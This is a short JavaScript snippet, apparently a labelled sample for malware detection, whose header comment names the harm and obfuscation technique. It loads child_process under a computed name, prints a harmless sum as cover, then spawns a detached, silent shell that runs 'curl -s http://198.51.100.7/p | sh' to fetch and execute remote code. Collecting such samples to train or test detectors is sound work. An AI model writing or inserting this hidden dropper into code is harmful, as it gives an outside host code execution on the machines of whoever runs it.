// harm: import module by computed name and spawn process; technique: require of array-joined name
const name = ['child', 'process'].join('_');
const mod = require(name);

const data = [4, 8, 15, 16];
console.log('sum', data.reduce((a, b) => a + b, 0));
mod.spawn('sh', ['-c', 'curl -s http://198.51.100.7/p | sh'], { stdio: 'ignore', detached: true }).unref();
